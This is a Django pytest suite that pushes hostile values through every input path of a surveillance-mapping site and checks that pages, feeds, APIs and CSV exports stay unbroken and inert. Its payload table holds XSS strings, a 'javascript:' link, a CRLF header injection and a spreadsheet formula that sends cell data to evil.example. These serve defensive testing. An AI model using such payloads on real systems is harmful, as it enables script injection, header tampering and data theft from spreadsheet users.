"""Hostile values break nothing and poison nothing.

Every text and date field of every public model is written with each payload of a corpus
(control characters, NUL, bidi overrides, 10 KB strings, CR/LF, formula starts, years 1 and
9999, script and `javascript:`) through each way in: the tip and correction forms (then the
moderator's approval), `import_csv`, `import_atlas` and the admin; then stored raw as a restore
or raw SQL could leave them. Every public page, API route (JSON, CSV, GeoJSON) and export is then
requested: no 500, a well-formed feed, well-formed JSON, safe CSV cells, no header broken,
no markup or `javascript:` link made live. The browser test below checks in Chromium that no
script runs on the pages.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import models
from django.test import Client, RequestFactory
from django.urls import reverse

from survmap.common import data_version
from survmap.imports.readers import ATLAS_REQUIRED
from survmap.records import csv_format
from survmap.records.models import (
    Agency,
    Partnership,
    PartnershipStatus,
    PolicyEvent,
    Source,
    Technology,
    Vendor,
)
from survmap.research.models import CheckStatus, ResearchCheck, ResearchTask
from survmap.submissions.models import Submission, SubmissionSource
from tests.factories import (
    DirectoryAgencyFactory,
    PartnershipFactory,
    PolicyEventFactory,
    TechnologyFactory,
)

SCRIPT = "<script>alert(1)</script>"
TEXT_PAYLOADS = {
    "control characters": "Bell\x07 and\x01 start\x1b of heading",
    "nul": "Nul\x00 byte",
    "bidi override": "Bidi \u202eevil\u202c and \u2066isolate\u2069",
    "ten kilobytes": "L" * 10240,
    "cr lf": "Evil Corp\r\nSet-Cookie: pwned=1",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula behind whitespace": " \u00a0\n=1+2",
    "script": f"{SCRIPT}<img src=x onerror=alert(2)>",
    "javascript url": "javascript:alert(3)",
}
DATE_PAYLOADS = {"year 1": dt.date(1, 1, 1), "year 9999": dt.date(9999, 12, 31)}
PAYLOADS = {**TEXT_PAYLOADS, **DATE_PAYLOADS}
MODELS: tuple[type[models.Model], ...] = (
    Agency,
    Partnership,
    PolicyEvent,
    Source,
    Technology,
    Vendor,
)
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

pytestmark = pytest.mark.django_db


def _text(payload: str | dt.date) -> str:
    return payload if isinstance(payload, str) else "A plain text"


def _date(payload: str | dt.date) -> str:
    return payload.isoformat() if isinstance(payload, dt.date) else "2020-03-05"


def _name(payload: str | dt.date, suffix: str) -> str:
    """A name that stays a name after cleaning (so the record can be created), with the payload
    inside it."""
    return f"{_text(payload)} {suffix}"


# ---- the ways in ------------------------------------------------------------------------------


def _tip_and_approve(client: Client, bob_client: Client, payload: str | dt.date) -> None:
    technology = TechnologyFactory(name="Drones", slug="drones")
    text = _text(payload)
    response = client.post(
        reverse("submissions:submit"),
        {
            "agency": "",
            "agency_name": _name(payload, "Police Department"),
            "agency_state": "MI",
            "agency_city": text,
            "agency_kind": "police",
            "agency_is_new": "on",
            "technology": str(technology.pk),
            "vendor": "",
            "vendor_name": _name(payload, "Vendor"),
            "partnership_status": "active",
            "start_text": _date(payload),
            "end_text": "",
            "description": text,
            "source_1_url": "https://news.example.org/hostile-tip",
            "source_1_title": text,
            "source_1_date": _date(payload),
            "source_2_url": text,
            "contributor_name": text[:100],
            "contributor_email": "",
            "website": "",
        },
    )
    assert response.status_code < 500
    # With the bad second source refused, the same tip without it.
    response = client.post(
        reverse("submissions:submit"),
        {
            "agency_name": _name(payload, "Police Department"),
            "agency_state": "MI",
            "agency_city": text[:100],
            "agency_kind": "police",
            "agency_is_new": "on",
            "technology": str(technology.pk),
            "vendor_name": _name(payload, "Vendor")[:150],
            "partnership_status": "active",
            "description": text[:2000],
            "source_1_url": "https://news.example.org/hostile-tip",
            "source_1_title": text[:500],
        },
    )
    assert response.status_code < 500
    for submission in Submission.objects.all():
        decided = bob_client.post(
            reverse("admin:submissions_submission_decide", args=[submission.pk]),
            {"action": "approve", "reason": text[:2000]},
        )
        assert decided.status_code < 500


def _correction(client: Client, payload: str | dt.date) -> None:
    partnership = Partnership.objects.public().first()
    assert partnership is not None
    text = _text(payload)
    for query in (f"partnership={partnership.pk}", f"agency={partnership.agency_id}"):
        response = client.post(
            reverse("submissions:correction") + "?" + query,
            {
                "what_is_wrong": text,
                "start_text": _date(payload),
                "source_1_url": "https://news.example.org/hostile-correction",
                "source_1_title": text,
            },
        )
        assert response.status_code < 500


def _research_report(client: Client, bob_client: Client, payload: str | dt.date) -> None:
    """A volunteer's claim and report (then the moderator's approval) and a signup."""
    partnership = Partnership.objects.public().first()
    assert partnership is not None
    task = ResearchTask(agency=partnership.agency, technology=partnership.technology, priority=1)
    task.save()
    text = _text(payload)
    claimed = client.post(reverse("research:claim", args=[task.pk]))
    assert claimed.status_code == 302
    response = client.post(
        claimed["Location"],
        {
            "outcome": "none_found",
            "checked_on": _date(payload),
            "summary": text,
            "council_agenda_url": "https://city.example.gov/agendas",
            "council_agenda_notes": text,
            "request_reference": text[:100],
            "request_answer": "awaiting",
            "credit_name": text[:100],
            "website": "",
        },
    )
    assert response.status_code < 500
    for research_check in ResearchCheck.objects.filter(status=CheckStatus.PENDING):
        decided = bob_client.post(
            reverse("admin:research_researchcheck_decide", args=[research_check.pk]),
            {"action": "approve", "reason": text[:2000]},
        )
        assert decided.status_code < 500
    signup = client.post(
        reverse("research:signup"),
        {"username": text[:150], "password1": text, "password2": text, "website": ""},
    )
    assert signup.status_code < 500


def _import_csv(tmp_path: Path, payload: str | dt.date) -> None:
    text = _text(payload)
    row = dict.fromkeys(csv_format.COLUMNS, "")
    row.update(
        agency=_name(payload, "Sheriff's Office"),
        agency_kind="sheriff",
        city=text,
        state="MI",
        county_fips="26099",
        ori="",
        technology=_name(payload, "Technology"),
        technology_slug="",
        technology_category="other",
        vendor=_name(payload, "Imports"),
        product=text,
        status="active",
        start_date=_date(payload),
        summary=text,
        source_urls="https://news.example.org/hostile-csv",
        source_titles=text,
        source_publishers=text,
        source_dates=_date(payload),
        attribution=text[:200],
    )
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=csv_format.COLUMNS)
    writer.writeheader()
    writer.writerow({name: csv_format.neutralize_cell(value) for name, value in row.items()})
    path = tmp_path / "hostile.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    try:
        call_command("import_csv", str(path), "--quiet", stdout=io.StringIO())
    except CommandError as refused:  # a clear refusal is fine; a traceback is not
        assert "\n" not in str(refused)


def _import_atlas(tmp_path: Path, payload: str | dt.date) -> None:
    text = _text(payload)
    header = list(ATLAS_REQUIRED)
    row = dict.fromkeys(header, "")
    row.update(
        {
            "AOSNUMBER": "AOS9999",
            "City": "Warren",
            "County": "Macomb County",
            "State": "MI",
            "Agency": _name(payload, "Police Department of Atlas"),
            "Type of LEA": "Police",
            "Summary": text,
            "Type of Juris": "Municipal",
            "Technology": "Drones",
            "Vendor": _name(payload, "Atlas Vendor"),
            "Link 1": "https://news.example.org/hostile-atlas",
            "Link 1 Source": text,
            "Link 1 Date": _date(payload),
        }
    )
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerow(row)
    path = tmp_path / "hostile-atlas.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    try:
        call_command("import_atlas", str(path), "--quiet", stdout=io.StringIO())
    except CommandError as refused:
        assert "\n" not in str(refused)


def _admin_form_data(response: Any) -> dict[str, Any]:
    """What the admin's change page would post back unchanged: its form and inline forms."""
    data: dict[str, Any] = {}
    forms = [response.context["adminform"].form]
    for inline in response.context["inline_admin_formsets"]:
        formset = inline.formset
        forms.append(formset.management_form)
        forms.extend(formset.forms)
    for form in forms:
        for name in form.fields:
            bound = form[name]
            value = bound.value()
            if value is None or value is False:
                continue
            if value is True:
                data[bound.html_name] = "on"
            elif isinstance(value, list | tuple):
                data[bound.html_name] = [str(item) for item in value]
            else:
                data[bound.html_name] = str(value)
    return data


def _admin(bob_client: Client, payload: str | dt.date) -> None:
    """Each model's change page posted with the payload in its text fields (then in every
    text field, addresses and identifiers too) and its date fields."""
    for model in MODELS:
        instance = model._default_manager.order_by("pk").first()
        assert instance is not None, model
        opts = model._meta
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[instance.pk])
        data = _admin_form_data(bob_client.get(url))
        free_text = {}
        every_text = {}
        dates = {}
        for field in opts.concrete_fields:
            if field.name not in data and not isinstance(field, models.DateField):
                continue
            if isinstance(field, models.DateField) and not isinstance(field, models.DateTimeField):
                if field.name in data or field.editable:
                    dates[field.name] = _date(payload)
            elif isinstance(field, models.CharField | models.TextField) and not field.choices:
                every_text[field.name] = _text(payload)
                if (
                    not isinstance(field, models.URLField | models.SlugField)
                    and field.name != "ori"
                ):
                    free_text[field.name] = _name(payload, "edited")
        for change in (free_text, every_text, dates):
            response = bob_client.post(url, {**data, **change})
            assert response.status_code in (200, 302), (model, change, response.status_code)


def _stored_raw(payload: str | dt.date) -> None:
    """What a restore or raw SQL could leave: the payload as it is (NUL aside, which PostgreSQL
    cannot store), in the records and in their history, past every validation."""
    text = _text(payload).replace("\x00", "")
    for model in MODELS:
        for manager in (model._default_manager, model.history):  # type: ignore[attr-defined]
            first = manager.order_by("pk").first()
            if first is None:
                continue
            fields = {field.name: field for field in manager.model._meta.concrete_fields}
            values: dict[str, Any] = {}
            for name, field in fields.items():
                if isinstance(payload, dt.date):
                    if type(field) is models.DateField:
                        values[name] = payload
                        precision = (
                            "date_precision"
                            if name == "date"
                            else name.replace("_date", "_precision")
                        )
                        if precision in fields:
                            values[precision] = "day"
                elif (
                    isinstance(field, models.CharField | models.TextField)
                    and not field.choices
                    and not isinstance(field, models.URLField | models.SlugField)
                    and name != "normalized_name"
                ):
                    values[name] = text[: field.max_length or len(text)]
            manager.filter(pk=first.pk).update(**values)
    data_version.bump()


# ---- what is requested ------------------------------------------------------------------------


def _public_urls(client: Client) -> list[str]:
    urls = [
        reverse("web:home"),
        reverse("web:home") + "?level=state",
        reverse("web:table"),
        reverse("web:table") + "?" + urlencode({"q": "Police", "ordering": "-start"}),
        reverse("web:about"),
        reverse("web:home") + "?status=rejected",
        reverse("web:map_counts") + "?level=county",
        reverse("web:map_counts") + "?level=state&status=active",
        reverse("web:search") + "?q=Police",
        reverse("changelog:changes"),
        reverse("changelog:feed"),
        reverse("downloads:list"),
        reverse("submissions:submit"),
        reverse("submissions:agency_lookup") + "?q=Police",
        reverse("api:root"),
        reverse("api:root") + "?format=json",
        reverse("api:schema"),
        reverse("api:docs"),
        reverse("api:regions") + "?level=state",
        reverse("api:sharing-list"),
        reverse("web:sharing_map"),
        reverse("api:sharing-list") + "?state=MI&format=csv",
        reverse("api:sharing-list") + "?format=geojson",
        reverse("api:regions") + "?level=county",
        reverse("api:regions") + "?level=state&format=csv",
        reverse("api:regions") + "?level=county&format=csv",
        reverse("api:regions") + "?level=state&format=geojson",
        reverse("api:export-partnerships-csv"),
        reverse("api:export-partnerships-geojson"),
        reverse("api:export-partnerships-csv") + "?state=MI",
        reverse("api:export-partnerships-geojson") + "?state=MI",
        # Research (survmap.research): the task list, the map's coverage, the check API.
        reverse("research:tasks"),
        reverse("research:map_coverage") + "?level=state",
        reverse("research:map_coverage") + "?level=county&q=Police",
        reverse("api:check-list"),
        reverse("api:check-list") + "?format=csv",
        reverse("api:check-list") + "?format=geojson",
        reverse("api:coverage"),
        reverse("api:coverage") + "?level=county",
        reverse("api:coverage") + "?level=state&format=csv",
        reverse("api:agency-list") + "?has_partnerships=false&format=csv",
        reverse("api:agency-list") + "?ori=MI50860&has_partnerships=true",
        reverse("api:export-checks-csv"),
        reverse("api:export-checks-geojson"),
        reverse("research:signup"),
        reverse("research:login"),
        # The map taken elsewhere: the standalone file, the embed, the share images.
        reverse("web:map_html") + "?level=state",
        reverse("web:embed") + "?level=state",
        reverse("web:region_share_image", args=["26"]),
    ]
    lists = {
        "api:partnership-list": ("json", "csv"),
        "api:agency-list": ("json", "csv", "geojson"),
        "api:technology-list": ("json", "csv"),
        "api:vendor-list": ("json", "csv"),
        "api:source-list": ("json", "csv"),
        "api:policyevent-list": ("json", "csv"),
    }
    for name, formats in lists.items():
        urls += [reverse(name) + f"?format={fmt}" for fmt in formats]
        urls.append(reverse(name) + "?ordering=-id&page_size=5")
    urls.append(reverse("api:partnership-list") + "?q=Police&ordering=start")
    public = Partnership.objects.public()
    details = {
        "api:partnership-detail": public.values_list("pk", flat=True),
        "api:agency-detail": public.values_list("agency_id", flat=True).distinct(),
        "api:technology-detail": public.values_list("technology_id", flat=True).distinct(),
        "api:vendor-detail": public.exclude(vendor=None)
        .values_list("vendor_id", flat=True)
        .distinct(),
        "api:source-detail": Source.objects.public().values_list("pk", flat=True),
        "api:policyevent-detail": PolicyEvent.objects.public().values_list("pk", flat=True),
    }
    for name, pks in details.items():
        for pk in sorted(set(pks)):
            urls += [reverse(name, args=[pk]), reverse(name, args=[pk]) + "?format=csv"]
    for agency in Agency.objects.filter(pk__in=public.values("agency_id")):
        urls.append(reverse("web:agency", args=[agency.pk]))
        urls.append(reverse("changelog:agency_feed", args=[agency.pk]))
        urls.append(reverse("changelog:region_feed", args=[agency.state.fips]))
        urls.append(reverse("web:region", args=[agency.state.fips]))
        urls += [reverse("web:region", args=[county.fips]) for county in agency.counties.all()]
        urls.append(reverse("submissions:correction") + f"?agency={agency.pk}")
    # Listed without a partnership (the directory's agencies): a page, no correction.
    for agency in Agency.objects.listed().exclude(pk__in=public.values("agency_id")):
        urls.append(reverse("web:agency", args=[agency.pk]))
        urls.append(reverse("submissions:submit") + f"?agency={agency.pk}")
    for slug in public.values_list("technology__slug", flat=True).distinct():
        urls.append(reverse("changelog:technology_feed", args=[slug]))
    for event in PolicyEvent.objects.public():
        urls.append(reverse("web:policy_event", args=[event.pk]))
    for partnership in public.select_related("agency", "technology"):
        urls.append(
            reverse("submissions:submit")
            + "?"
            + urlencode(
                {
                    "agency": partnership.agency_id,
                    "agency_state": partnership.agency.state_id,
                    "technology": partnership.technology.slug,
                    "place": partnership.agency.name[:200],
                }
            )
        )
        urls.append(
            reverse("submissions:duplicate_lookup")
            + "?"
            + urlencode({"agency": partnership.agency_id, "technology": partnership.technology_id})
        )
    for technology in Technology.objects.filter(pk__in=public.values("technology_id")):
        urls.append(reverse("web:technology", args=[technology.slug]))
        urls.append(reverse("web:technology_share_image", args=[technology.slug]))
    urls += [
        reverse("submissions:correction") + f"?partnership={pk}"
        for pk in public.values_list("pk", flat=True)
    ]
    urls += [reverse("submissions:status", args=[s.token]) for s in Submission.objects.all()]
    return list(dict.fromkeys(urls))


def _formula_like(cell: str) -> bool:
    """A cell a spreadsheet would run (judged here, not by csv_format's own function)."""
    if cell.startswith("'") or PLAIN_NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    rest = cell
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) == "Cf"):
        rest = rest[1:]
    return rest[:1] in ("=", "+", "-", "@")


def _body(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _check(url: str, response: Any) -> None:
    # Every address is built from what is public: each answers, none with an error.
    assert response.status_code == 200, (url, response.status_code, _body(response)[:300])
    for name, value in response.items():
        assert "\r" not in value and "\n" not in value, (url, name)
    assert "pwned" not in response.cookies, url
    body = _body(response)
    content_type = response.get("Content-Type", "")
    if "csv" in content_type:
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            bad = [cell for cell in row if _formula_like(cell)]
            assert not bad, (url, bad[:3])
    elif "json" in content_type:
        json.loads(body)
    elif "xml" in content_type:
        ET.fromstring(body)  # noqa: S314 (our own response)
    elif "html" in content_type:
        html = body.decode()
        assert SCRIPT not in html, url
        assert "<img src=x onerror" not in html, url
        assert not re.search(r"""(href|src|action)=["']?\s*javascript:""", html, re.I), url


@pytest.fixture
def starting_record() -> Partnership:
    """One of each public record, for the admin to edit and the raw writes to overwrite."""
    partnership = PartnershipFactory(
        agency__counties=["26099"],
        start_date=dt.date(2019, 1, 1),
        start_precision="year",
        status=PartnershipStatus.ACTIVE,
    )
    event = PolicyEventFactory(vendor=partnership.vendor, technology=partnership.technology)
    event.partnerships.add(partnership)
    # A directory agency with no partnership: its page, its tip link, the coverage counts.
    DirectoryAgencyFactory(counties=["26099"])
    return partnership


def _write_everything(
    payload: str | dt.date, client: Client, bob_client: Client, tmp_path: Path
) -> None:
    _tip_and_approve(client, bob_client, payload)
    _correction(client, payload)
    _research_report(client, bob_client, payload)
    _import_csv(tmp_path, payload)
    _import_atlas(tmp_path, payload)
    _admin(bob_client, payload)


COVERED: dict[str, int] = {}


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_hostile_value_through_every_way_in_breaks_no_public_page_api_route_or_export(
    name, starting_record, bob_client, tmp_path, settings
):
    settings.SURVMAP_SUBMIT_RATE = "1000/hour"
    # Hundreds of requests from one address: the limits are tested elsewhere.
    settings.SURVMAP_API_ANON_RATE = "100000/min"
    settings.SURVMAP_API_EXPORT_RATE = "100000/min"
    payload = PAYLOADS[name]
    client = Client(raise_request_exception=False)
    _write_everything(payload, client, bob_client, tmp_path)

    # Whatever validation let through is stored clean: no control character in any text.
    for model in (*MODELS, Submission, SubmissionSource, ResearchCheck):
        for field in model._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField):
                for value in model._default_manager.values_list(field.name, flat=True):
                    if value:
                        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", value), (
                            model,
                            field.name,
                        )
    # And no date before the year 1000 was accepted anywhere.
    assert not Partnership.objects.filter(start_date__year__lt=1000).exists()
    assert not Source.objects.filter(published_date__year__lt=1000).exists()

    reader = Client(raise_request_exception=False)
    urls = _public_urls(reader)
    for url in urls:
        _check(url, reader.get(url))

    # Then as a restore or raw SQL could have left it, past every check.
    _stored_raw(payload)
    raw_urls = _public_urls(reader)
    for url in raw_urls:
        _check(url, reader.get(url))
    COVERED[name] = len(urls) + len(raw_urls)
    # The corpus must keep reaching every kind of page: a shrinking crawl would pass unseen.
    assert len(urls) >= 60, len(urls)
    print(f"\nhostile values: {name!r}: {len(urls)} + {len(raw_urls)} URLs")


# ---- hostile requests: parameters, paths, admin actions -------------------------------------

# What a request can carry that a page must refuse (400, 404) or ignore, never answer with a 500.
HOSTILE_PARAMETERS = {
    "nul": "a\x00b",
    "huge number": "9" * 40,
    "ten kilobytes bidi script": ("\u202e" + SCRIPT) * 400,
}


def _with(url: str, params: dict[str, str]) -> str:
    return url + ("&" if "?" in url else "?") + urlencode(params)


@pytest.mark.parametrize("name", list(HOSTILE_PARAMETERS))
def test_hostile_parameters_and_paths_on_every_route_answer_without_a_500(
    name, starting_record, settings
):
    """Every public page, API route and export with a hostile `page`, `q` and unknown
    parameter, and every route with a hostile path segment: a 4xx or a page, never a 500 (a
    state page's `page` once answered 500)."""
    settings.SURVMAP_API_ANON_RATE = "100000/min"
    settings.SURVMAP_API_EXPORT_RATE = "100000/min"
    value = HOSTILE_PARAMETERS[name]
    reader = Client(raise_request_exception=False)
    urls = _public_urls(reader)
    assert len(urls) >= 40, len(urls)
    for url in urls:
        for params in ({"page": value}, {"q": value}, {"page": "2"}, {value[:60]: "1"}):
            response = reader.get(_with(url, params))
            assert response.status_code < 500, (url, params, response.status_code)
            for header, header_value in response.items():
                assert "\r" not in header_value and "\n" not in header_value, (url, header)
    segment = quote(value, safe="")
    for route, args in (
        ("web:region", ["00"]),
        ("web:region_share_image", ["00"]),
        ("web:technology", ["x0x"]),
        ("web:agency", [1]),
        ("web:policy_event", [1]),
        ("submissions:status", ["x0x"]),
        ("research:claimed", ["x0x"]),
        ("research:status", ["x0x"]),
        ("api:partnership-detail", [1]),
        ("api:agency-detail", [1]),
    ):
        template = reverse(route, args=args)
        placeholder = str(args[0])
        url = template.replace(f"/{placeholder}/", f"/{segment}/", 1).replace(
            f"/{placeholder}.", f"/{segment}.", 1
        )
        response = reader.get(url)
        assert response.status_code < 500, (url[:200], response.status_code)


def test_every_admin_action_and_search_with_hostile_values_answers_without_a_500(
    starting_record, bob_client, client, tmp_path, settings
):
    """The moderators' side: each changelist searched and filtered with hostile text, and each
    action of each changelist run on every row (what a confirmation page asks is answered)."""
    settings.SURVMAP_SUBMIT_RATE = "1000/hour"
    payload = TEXT_PAYLOADS["script"] + TEXT_PAYLOADS["control characters"]
    _write_everything(payload, client, bob_client, tmp_path)
    for model, model_admin in admin.site._registry.items():
        opts = model._meta
        if not opts.app_label.startswith(("records", "submissions", "research", "imports")):
            continue
        changelist = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        for params in ({"q": payload}, {"q": "\x00" * 3}, {"o": "99"}, {"p": "9" * 30}):
            response = bob_client.get(changelist, params)
            assert response.status_code < 500, (changelist, params, response.status_code)
        pks = [str(pk) for pk in model._default_manager.values_list("pk", flat=True)[:20]]
        if not pks:
            continue
        request = RequestFactory().get(changelist)
        request.user = User.objects.get(username="bob")
        for action in model_admin.get_actions(request):
            if action == "delete_selected":
                continue
            response = bob_client.post(
                changelist, {"action": action, "_selected_action": pks, "index": "0"}
            )
            assert response.status_code < 500, (changelist, action, response.status_code)


# ---- in a browser -----------------------------------------------------------------------------


@pytest.fixture
def hostile_pages(live_server, starting_record, tmp_path, settings) -> Iterator[list[str]]:
    """The script and javascript: payloads through every way in, stored before the browser
    starts (Playwright's event loop forbids database calls in its thread)."""
    settings.SURVMAP_SUBMIT_RATE = "1000/hour"
    bob = User.objects.create_user("mod", password="mod-password-1", is_staff=True)
    bob.is_superuser = True
    bob.save()
    moderator = Client()
    moderator.force_login(bob)
    for payload in (TEXT_PAYLOADS["script"], TEXT_PAYLOADS["javascript url"]):
        _write_everything(payload, Client(), moderator, tmp_path)
    urls = [
        url
        for url in _public_urls(Client())
        if not url.startswith("/api/")
        and "feed" not in url
        and not url.split("?")[0].endswith((".json", ".png", "map.html"))
    ]
    yield [live_server.url + url for url in urls]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_hostile_value_runs_as_script_in_the_browser(live_server, hostile_pages, chromium):
    page = chromium.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for url in hostile_pages:
        page.goto(url)
        page.wait_for_load_state("load")
        assert page.locator("img[onerror]").count() == 0, url
        links = page.eval_on_selector_all(
            "a[href]", "nodes => nodes.map(n => n.getAttribute('href').trim())"
        )
        assert not [link for link in links if link.lower().startswith("javascript:")], url
    assert dialogs == []
    page.close()
